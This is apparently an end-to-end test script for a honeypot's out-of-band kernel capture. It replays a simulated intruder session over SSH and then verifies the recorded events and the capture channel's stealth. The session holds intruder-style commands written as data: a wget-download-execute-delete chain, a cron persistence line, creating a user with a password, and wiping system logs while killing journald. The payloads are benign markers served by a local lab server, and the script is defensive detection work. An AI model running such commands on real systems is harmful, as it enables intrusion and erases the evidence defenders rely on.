#!/bin/bash
# Out-of-band capture, end to end: an attacker logs in over real SSH with a
# pty, types commands, uploads a program, runs it and deletes it, forks
# children and writes a log line. Everything is checked from the host side
# only, from the capture the guest kernel wrote. Then, as root inside the
# guest, the channel must not show, and honeylog() with a wrong key must
# answer like an unassigned system call.
OYSTER="$(realpath "$1")"
source "$(dirname "$0")/lib.sh"
world_up

t_test_start_ns="$(date +%s%N)"
sensor_oyster guest start --json > "$WORK/g.json"
id="$(jq -r .id "$WORK/g.json")"
gip="$(jq -r .guest_ip "$WORK/g.json")"
marker="oyster-marker-$RANDOM$RANDOM"

# A program only this test has, served by the fake web server: its hash
# proves the kernel kept the content after the attacker deleted the file.
mkdir -p "$WORK/www"
printf '#include <stdio.h>\n#include <unistd.h>\nint main(void) { printf("%s ran as %%d\\n", (int)getuid()); return 0; }\n' \
	"$marker" > "$WORK/payload.c"
gcc -static -O2 -o "$WORK/www/payload" "$WORK/payload.c" || fail "cannot build the payload"
payload_sha="$(sha256sum "$WORK/www/payload" | cut -d' ' -f1)"
# A script run with sh and deleted, and a file written over: no exec keeps
# them, the guest kernel keeps them as the unlink and the O_TRUNC come.
printf '#!/bin/sh\necho dropper-%s-ran\n' "$marker" > "$WORK/www/dropper.sh"
dropper_sha="$(sha256sum "$WORK/www/dropper.sh" | cut -d' ' -f1)"
first_version_sha="$(printf 'first-%s\n' "$marker" | sha256sum | cut -d' ' -f1)"
ip netns exec "$NS_INTERNET" python3 -m http.server --bind "$WEB_IP" --directory "$WORK/www" 80 \
	>"$WORK/web.log" 2>&1 &
for _ in $(seq 50); do ip netns exec "$NS_SENSOR" nc -z "$WEB_IP" 80 && break; sleep 0.1; done

log "interactive session"
# Typed line by line into a real pty, as an intruder would.
{
	echo 'uname -a; id; cat /etc/passwd | head -3'
	echo "echo typed-$marker"
	echo "wget -q -O /tmp/payload http://$WEB_IP/payload && chmod +x /tmp/payload && /tmp/payload; rm -f /tmp/payload"
	echo "wget -q -O /tmp/dropper.sh http://$WEB_IP/dropper.sh && sh /tmp/dropper.sh; rm -f /tmp/dropper.sh"
	echo "echo first-$marker > /tmp/over; echo second > /tmp/over"
	echo '(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/.x") | crontab -'
	echo 'useradd -m alice && printf "Secr3tPw\nSecr3tPw\n" | passwd alice'
	echo 'su alice -s /bin/sh -c "echo su-became-\$(id -un)"'
	echo 'mount -t tmpfs none /mnt && umount /mnt'
	# PTRACE_ATTACH to a pid that does not exist (attaching to a live one
	# would leave it stopped when perl exits).
	echo "perl -e 'my \$p = \"\"; syscall(175, 0, 0, \$p); syscall(101, 16, 99999, 0, 0)'"
	echo 'sh -c "sleep 0.2 & sleep 0.3 & wait"'
	echo "logger -t backup logline-$marker"
	# journald's native protocol; then a root wiping the logs, and logging
	# on with journald killed: the lines are on the host all the same.
	echo "echo MESSAGE=journal-$marker | logger --journald"
	echo ': > /var/log/auth.log; : > /var/log/syslog; journalctl --rotate -q; journalctl --vacuum-time=1s -q'
	echo "systemctl kill -s KILL systemd-journald; logger -t backup after-kill-$marker"
	echo 'exit'
} | ip netns exec "$NS_ATTACKER" sshpass -p "$ROOT_PASSWORD" ssh -tt -q \
	-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no \
	"root@$gip" > "$WORK/session.out" 2>&1 || true
grep -q "$marker ran as 0" "$WORK/session.out" || { cat "$WORK/session.out" >&2; fail "payload did not run"; }
grep -q "dropper-$marker-ran" "$WORK/session.out" || { cat "$WORK/session.out" >&2; fail "the dropper did not run"; }
grep -q "su-became-alice" "$WORK/session.out" || { cat "$WORK/session.out" >&2; fail "su did not run"; }

log "tamper checks inside the guest"
# What names the channel: its environment variables, its file, its code.
# (The UML command line in /proc/cmdline and dmesg still names host paths;
# hiding the launcher's arguments is the stealth work of issue 5.)
tamper="$(attacker_ssh "$gip" '
	pat="-e OYSTER_ -e capture.bin -e honeylog -e oyster_cap"
	grep -l $pat /proc/[0-9]*/environ 2>/dev/null | head -3
	ls -l /proc/[0-9]*/fd 2>/dev/null | grep -i $pat | head -3
	dmesg | grep -i $pat | head -3
	grep -il $pat /proc/kallsyms /proc/modules /proc/devices /proc/misc 2>/dev/null | head -3
	[ -e /proc/kallsyms ] && echo "/proc/kallsyms exists"
	ss -ap 2>/dev/null | grep -i $pat | head -3
	ip link | grep -i $pat | head -3
	ls -la /dev | grep -i $pat | head -3
	echo TAMPER-END
	# honeylog with wrong keys, and its unassigned neighbours: all ENOSYS.
	for nr in 336 401 402 403 423 500; do
		for key in 0 1 12345 18446744073709551615; do
			perl -e "\$r = syscall($nr, $key, 0, 0); print qq{$nr \$r \$!\n}"
		done
	done')"
echo "$tamper" | sed 's/^/    guest> /' >&2
[ "$(echo "$tamper" | sed -n '/TAMPER-END/q;p' | wc -l)" = 0 ] || fail "the capture channel is visible in the guest"
echo "$tamper" | grep -E '^[0-9]+ ' | grep -v ' -1 Function not implemented$' && fail "a probe did not answer ENOSYS"
[ "$(echo "$tamper" | grep -c 'Function not implemented')" = 24 ] || fail "syscall probes did not run"

log "honeylog keys: the image's asks root for this boot's, and only that one takes messages"
image_key="$(jq -r .honeylog_key "$STATE_DIR/platform.json")"
keys="$(attacker_ssh "$gip" "
	perl -e '
		my \$k = hex(\$ARGV[0]);
		my \$m = \"forged-with-image-key\";
		my \$r = syscall(402, \$k, \$m, length(\$m)); print \"image-key-message \$r \$!\\n\";
		my \$q = pack(\"a8 Q\", \"\\x8b\\xd1\\xbe\\xa7\\xdc\\xf2\\x89\", 0);
		\$r = syscall(402, \$k, \$q, 16); my (undef, \$b) = unpack(\"a8 Q\", \$q);
		printf \"root-query %d %016x\\n\", \$r, \$b;
		\$m = \"boot-key-message-$marker\";
		\$r = syscall(402, \$b, \$m, length(\$m));
		print \"boot-key-message \$r\\n\";' $image_key
	setpriv --reuid=65534 --regid=65534 --clear-groups perl -e '
		my \$q = pack(\"a8 Q\", \"\\x8b\\xd1\\xbe\\xa7\\xdc\\xf2\\x89\", 0);
		my \$r = syscall(402, hex(\$ARGV[0]), \$q, 16); print \"nobody-query \$r \$!\\n\";' $image_key")"
echo "$keys" | sed 's/^/    guest> /' >&2
uml_boot_key="$(tr '\0' '\n' <"/proc/$(jq -r .pid "$STATE_DIR/guests/$id/guest.json")/environ" |
	sed -n 's/^OYSTER_HONEYLOG_BOOT_KEY=//p')"
[ -n "$uml_boot_key" ] && [ "$uml_boot_key" != "$image_key" ] || fail "the guest has no boot key of its own"
echo "$keys" | matches -x 'image-key-message -1 Function not implemented' || fail "the image's key took a message"
echo "$keys" | matches -x "root-query 16 $uml_boot_key" || fail "root did not get this boot's key"
echo "$keys" | matches -x "boot-key-message $((17 + ${#marker}))" || fail "the boot key took no message"
echo "$keys" | matches -x 'nobody-query -1 Function not implemented' || fail "a user other than root got the boot key"

log "the capture path on the host"
# The UML process holds only the pipe's write end; the writer, outside its
# jail and in a session of its own, is the one that has the file.
rec="$STATE_DIR/guests/$id/guest.json"
uml_pid="$(jq -r .pid "$rec")"
writer_pid="$(jq -r .writer_pid "$rec")"
[ "$writer_pid" -gt 0 ] 2>/dev/null || fail "no capture writer recorded: $(cat "$rec")"
stream="$(readlink "/proc/$uml_pid/fd/3")"
echo "$stream" | matches '^pipe:' || fail "the UML process's descriptor 3 is $stream, not a pipe"
[ "$(readlink "/proc/$writer_pid/fd/3")" = "$stream" ] || fail "the writer does not read the guest's pipe"
readlink "/proc/$writer_pid/exe" | matches '/oyster-capture-writer$' || fail "writer $writer_pid is not oyster-capture-writer"
[ "$(ps -o sid= -p "$writer_pid" | tr -d ' ')" = "$writer_pid" ] || fail "the writer is not in a session of its own"
ls -l "/proc/$uml_pid/fd" | grep -q 'capture\.' && fail "the UML process holds a capture file"
# Its filesystem view: the disk is there, the capture is not.
[ -e "/proc/$uml_pid/root$(jq -r .cow "$rec")" ] || fail "cannot look into the UML process's root"
[ -e "/proc/$uml_pid/root$STATE_DIR/guests/$id/capture.bin" ] && fail "capture.bin is reachable from the UML process's jail"
t_before_stop_ns="$(date +%s%N)"

log "system call sweep 0..1023 with random arguments inside the guest"
attacker_ssh "$gip" perl < "$(dirname "$0")/syscall_sweep.pl" > "$WORK/sweep.txt" || fail "sweep did not run"
[ "$(wc -l < "$WORK/sweep.txt")" -ge 1000 ] || fail "sweep answered for only $(wc -l < "$WORK/sweep.txt") numbers"
grep -q '^402 -1 38$' "$WORK/sweep.txt" || fail "honeylog (402) did not answer ENOSYS: $(grep '^402 ' "$WORK/sweep.txt")"
# x86-64 leaves 335..423 unassigned: honeylog must look like its neighbours.
unassigned="$(awk '$1 >= 335 && $1 <= 423' "$WORK/sweep.txt")"
[ "$(echo "$unassigned" | wc -l)" = 89 ] || fail "sweep missed numbers in 335..423"
echo "$unassigned" | grep -v ' -1 38$' && fail "an unassigned number did not answer ENOSYS"
attacker_ssh "$gip" true || fail "the guest did not survive the sweep"

sensor_oyster guest stop "$id"
cap="$STATE_DIR/guests/$id/capture"
ev="$cap/events.jsonl"
[ -s "$ev" ] || fail "no events decoded"
# (Gone, or a zombie its new parent has yet to reap: `guest start` exited.)
writer_state="$(awk '/^State:/ {print $2}' "/proc/$writer_pid/status" 2>/dev/null || true)"
[ -z "$writer_state" ] || [ "$writer_state" = Z ] || fail "the capture writer outlived the stop (state $writer_state)"
grep -q 'end of stream' "$STATE_DIR/guests/$id/capture-writer.log" ||
	fail "the writer did not end with the stream: $(cat "$STATE_DIR/guests/$id/capture-writer.log")"

# Every record's event carries the host's receive time, in stream order and
# within the test's run.
jq_any 'select(.seq != null and .type != "capture_start" and .received_ns == null)' "$ev" >/dev/null &&
	fail "an event without a receive time: $(jq -c 'select(.seq != null and .received_ns == null)' "$ev" | head -2)"
jq -s '[.[] | .received_ns | select(. != null)] | . == sort' "$ev" | matches -x true ||
	fail "receive times go backwards"
payload_at="$(jq -r 'select(.type == "exec" and .path == "/tmp/payload") | .received_ns' "$ev" | first_line)"
[ "$payload_at" -ge "$t_test_start_ns" ] 2>/dev/null && [ "$payload_at" -lt "$t_before_stop_ns" ] ||
	fail "the payload's receive time $payload_at is not within the session"

log "checking events"
jq_any 'select(.type == "capture_gap" or .type == "capture_error")' "$ev" >/dev/null &&
	fail "capture has gaps or errors: $(jq -c 'select(.type == "capture_gap" or .type == "capture_error")' "$ev")"
# Sequence numbers: 0..N-1 with none missing.
seqs="$(jq -r 'select(.seq != null and .type != "capture_start" and .type != "exec_content" and .type != "kept_content") | .seq' "$ev" | sort -n)"
[ "$(echo "$seqs" | first_line)" = 0 ] || fail "first seq is not 0"


payload_exec='select(.type == "exec" and .path == "/tmp/payload" and .filename == "/tmp/payload")'
jq_any "$payload_exec"' | select(.uid == 0 and .argv == ["/tmp/payload"] and .tty == "pts/0")' "$ev" >/dev/null ||
	fail "no exec event for the payload: $(jq -c 'select(.type == "exec" and (.filename | contains("payload")))' "$ev")"
jq_any --arg s "$payload_sha" 'select(.type == "exec_content" and .sha256 == $s and .complete)' "$ev" >/dev/null ||
	fail "payload content not captured (sha256 $payload_sha)"
cmp -s "$cap/files/$payload_sha" "$WORK/www/payload" || fail "stored payload differs from the served file"
# Written, run with sh, deleted: kept as the unlink came; a file written
# over: its first version kept as the O_TRUNC came; the executed payload,
# deleted too, not sent twice.
jq_any --arg s "$dropper_sha" 'select(.type == "kept_content" and .sha256 == $s and .complete)' "$ev" >/dev/null ||
	fail "the deleted dropper was not kept: $(jq -c 'select(.type == "kept" or .type == "kept_content")' "$ev" | head -20)"
jq_any 'select(.type == "kept" and .path == "/tmp/dropper.sh" and .syscall == "unlinkat" and .comm == "rm"
	and .content == "follows")' "$ev" >/dev/null || fail "no kept event for the dropper's unlink"
cmp -s "$cap/files/$dropper_sha" "$WORK/www/dropper.sh" || fail "the kept dropper differs from the served file"
jq_any --arg s "$first_version_sha" 'select(.type == "kept_content" and .sha256 == $s)' "$ev" >/dev/null ||
	fail "the overwritten first version was not kept"
jq_any 'select(.type == "kept" and .path == "/tmp/over" and (.syscall | startswith("open")))' "$ev" >/dev/null ||
	fail "no kept event for the overwrite"
jq_any --arg s "$payload_sha" 'select(.type == "kept" and .path == "/tmp/payload" and .content == "sent_before"
	and .sha256 == $s)' "$ev" >/dev/null || fail "the deleted payload was sent again or not named by its hash"
log "kept: $(jq -c 'select(.type == "kept") | [.path, .syscall, .content]' "$ev" | sort | uniq -c | sort -rn | head -8 | tr '\n' ' ')"
for cmd in uname id cat rm chmod wget crontab useradd passwd su mount perl logger; do
	jq_any --arg c "$cmd" 'select(.type == "exec" and (.path | endswith("/" + $c)) and .tty != null)' "$ev" >/dev/null ||
		fail "no exec event for $cmd on a tty"
done

# Process tree: the two sleeps are children of the sh -c that started them.
sh_pid="$(jq -r 'select(.type == "exec" and .argv[0] == "sh" and .argv[1] == "-c" and (.argv[2] | startswith("sleep"))) | .tgid' "$ev" | first_line)"
[ -n "$sh_pid" ] || fail "no exec of sh -c"
[ "$(jq -r --argjson p "$sh_pid" 'select(.type == "exec" and .ppid == $p and (.path | endswith("/sleep"))) | .tgid' "$ev" | wc -l)" = 2 ] ||
	fail "the sleeps are not children of sh ($sh_pid)"
jq_any --argjson p "$sh_pid" 'select(.type == "fork" and .tgid == $p)' "$ev" >/dev/null || fail "no fork event from sh"

# Connections and file changes, named as the kernel resolved them.
jq_any --arg ip "$WEB_IP" 'select(.type == "connect" and .comm == "wget" and .remote.address == $ip and .remote.port == 80)' "$ev" >/dev/null ||
	fail "no connect event to the web server: $(jq -c 'select(.type == "connect" and .family == "inet")' "$ev")"
file_event() {  # jq condition on a file event; message
	jq_any "select(.type == \"file\" and .ok and $1)" "$ev" >/dev/null || fail "$2"
}
file_event '.op == "open_write" and .comm == "wget" and .path == "/tmp/payload"' "no open_write of the download"
file_event '.op == "chmod" and .path == "/tmp/payload" and (.mode | test("7..$"))' "no chmod +x of the download"
file_event '.op == "unlink" and .path == "/tmp/payload" and .comm == "rm"' "no unlink of the download"
file_event '.op == "rename" and .comm == "crontab" and .new_path == "/var/spool/cron/crontabs/root"' \
	"no crontab write: $(jq -c 'select(.type == "file" and .comm == "crontab")' "$ev")"
file_event '.op == "rename" and .new_path == "/etc/shadow"' "no event for the password change writing /etc/shadow"
file_event '.op == "mkdir" and .path == "/home/alice"' "no mkdir of the new user's home"

# Credentials: su became alice (useradd chowns her home to root first, then
# to her).
alice_uid="$(jq -r 'select(.type == "file" and .op == "chown" and .path == "/home/alice") | .owner' "$ev" | tail -1)"
[ -n "$alice_uid" ] && [ "$alice_uid" != null ] || fail "no chown of alice's home"
jq_any --argjson u "$alice_uid" 'select(.type == "cred" and .syscall == "setuid" and .ok and .before.uid == 0 and .after.uid == $u and .after.euid == $u)' "$ev" >/dev/null ||
	fail "no setuid to alice ($alice_uid): $(jq -c 'select(.type == "cred")' "$ev" | head -5)"

# Mount, module and ptrace attempts, failed or not.
jq_any 'select(.type == "mount" and .syscall == "mount" and .ok and .strings == ["none", "/mnt", "tmpfs"])' "$ev" >/dev/null ||
	fail "no mount event: $(jq -c 'select(.type == "mount")' "$ev")"
jq_any 'select(.type == "mount" and .syscall == "umount2" and .strings == ["/mnt"])' "$ev" >/dev/null || fail "no umount event"
# Loading is off for good (kernel.modules_disabled = 1): EPERM.
jq_any 'select(.type == "module" and .syscall == "init_module" and .error == "EPERM")' "$ev" >/dev/null ||
	fail "no refused init_module attempt recorded: $(jq -c 'select(.type == "module")' "$ev")"
jq_any 'select(.type == "ptrace" and .syscall == "ptrace" and .args[0] == 16 and .args[1] == 99999 and .error == "ESRCH")' "$ev" >/dev/null ||
	fail "no ptrace attempt recorded"

# Terminal: what was typed and what was shown.
typed="$(jq -r 'select(.type == "tty_in") | .data' "$ev" | tr -d '\r\n')"
echo "$typed" | matches "uname -a; id; cat /etc/passwd | head -3" || fail "typed command missing from tty input: $typed"
cast="$(ls "$cap"/tty/pts-*.cast | first_line)"
[ -n "$cast" ] || fail "no asciicast"
# asciinema opens /dev/tty even to cat: give it a pty of its own.
HOME="$WORK" script -qec "asciinema cat '$cast'" /dev/null < /dev/null > "$WORK/replay.txt" 2>&1 ||
	fail "asciinema cat failed on $cast: $(tail -3 "$WORK/replay.txt")"
grep -q "typed-$marker" "$WORK/replay.txt" || fail "replay lacks the echoed marker"
grep -q "$marker ran as 0" "$WORK/replay.txt" || fail "replay lacks the payload's output"
[ -s "${cast%.cast}.ttylog" ] || fail "no ttylog"

# Only the message with the boot key is on the host.
jq_any --arg m "boot-key-message-$marker" 'select(.type == "honeylog" and .message == $m)' "$ev" >/dev/null ||
	fail "the message with the boot key did not arrive"
jq_any 'select(.type == "honeylog" and (.message | contains("forged-with-image-key")))' "$ev" >/dev/null &&
	fail "a message with the image's key arrived"

# Log lines: the kernel recorded what reached the log's sockets, each with
# the process that really sent it, whatever happened to the logs after.
guest_log() {  # jq condition on a guest_log event; message
	jq_any "select(.type == \"guest_log\" and $1)" "$ev" >/dev/null ||
		fail "$2: $(jq -c 'select(.type == "guest_log") | [.socket, .comm, .ident, .message]' "$ev" | tail -15)"
}
guest_log "(.message == \"logline-$marker\") and .ident == \"backup\" and .comm == \"logger\" and .socket == \"syslog\"" \
	"the logger line was not recorded"
guest_log "(.message == \"journal-$marker\") and .socket == \"journal\" and .comm == \"logger\"" \
	"the native journal line was not recorded"
guest_log "(.message == \"after-kill-$marker\") and .comm == \"logger\"" "a line logged with journald killed was not recorded"
guest_log '(.message | test("Accepted password for root from 203.0.113.10")) and .ident == "sshd" and .comm == "sshd" and .facility == "auth"' \
	"sshd's login line was not recorded"
guest_log '(.message | test("password changed for alice")) and .comm == "passwd"' \
	"the password change was not recorded"
# journald forwards to rsyslog: that copy is not recorded a second time.
[ "$(jq -c --arg m "logline-$marker" 'select(.type == "guest_log" and .message == $m)' "$ev" | wc -l)" = 1 ] ||
	fail "the logger line was recorded more than once"
log "PASS ($(wc -l < "$ev") events)"
